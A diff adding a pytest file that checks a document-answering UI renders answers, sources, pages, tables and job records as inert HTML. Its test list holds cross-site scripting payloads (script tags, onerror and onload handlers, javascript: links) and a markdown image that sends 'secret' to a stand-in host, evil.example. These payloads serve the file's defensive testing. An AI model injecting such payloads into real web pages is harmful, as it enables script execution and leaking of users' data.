@@ -1,0 +1,76 @@
+"""Answers, sources, pages and tables render as inert HTML whatever text documents and models contain."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from ui.render import answer_html, job_html, page_text_html, sources_html, table_html, transcript_html
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '<img src="http://evil.example/x.png" onerror="alert(2)">',
+    "[click](javascript:alert(3))",
+    "![tracker](http://evil.example/t.png?q=secret)",
+    '<a href="javascript:alert(4)">x</a>',
+    '"><svg onload=alert(5)>',
+]
+
+
+class Elements(HTMLParser):
+    """Every start tag and attribute the browser would build."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
+    parser = Elements()
+    parser.feed(html)
+    return parser.tags
+
+
+def assert_inert(html: str) -> None:
+    for tag, attrs in elements(html):
+        assert tag not in ("script", "img", "svg", "iframe", "object"), tag
+        assert not any(name.startswith("on") for name in attrs), attrs
+        for name in ("href", "src"):
+            value = attrs.get(name) or ""
+            assert not value or value.startswith(("#src-", "/view/")), value
+
+
+def source(text: str) -> dict[str, object]:
+    return {"n": 1, "chunk_id": 7, "file": text, "page": 2, "heading": text, "text": text, "score": 0.5,
+            "before": text, "after": text, "kind": "cited", "collection": "hr"}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_text_renders_as_text_everywhere(hostile: str) -> None:
+    message = {"id": 3, "question": hostile, "answer": f"Economy class [1]. {hostile}", "backend": hostile,
+               "sources": [source(hostile)], "citations": [source(hostile)], "error": hostile,
+               "sentences": [{"text": "Economy class [1].", "status": "cited", "passages": [1]},
+                             {"text": hostile, "status": "unsupported", "passages": []}]}
+    for html in (transcript_html([message]), sources_html([message]), page_text_html(hostile * 2, (3, 9)),
+                 table_html([{"a": hostile}], ["a"]),
+                 job_html({"id": 1, "collection": hostile, "source": hostile, "state": "done", "total": 1,
+                           "done": 1, "files": [{"path": hostile, "outcome": "failed", "chunks": 0}],
+                           "failures": [(hostile, hostile)], "summary": {}, "error": hostile})):
+        assert_inert(html)
+
+
+def test_markers_link_to_their_sources_and_sentences_show_their_support() -> None:
+    message = {"answer": "Economy class [1]. Business above six hours. Free snacks [9].",
+               "sources": [source("a"), {**source("b"), "n": 2}],
+               "sentences": [{"text": "Economy class [1].", "status": "cited", "passages": [1]},
+                             {"text": "Business above six hours.", "status": "attributed", "passages": [2]},
+                             {"text": "Free snacks [9].", "status": "unsupported", "passages": []}]}
+    html = answer_html(message, "5")
+    links = [attrs["href"] for tag, attrs in elements(html) if tag == "a"]
+    assert links == ["#src-5-1", "#src-5-2"]  # [9] points at no source and stays plain text
+    classes = [attrs["class"] for tag, attrs in elements(html) if tag == "span"]
+    assert classes == ["s-cited", "s-attributed", "s-unsupported"]
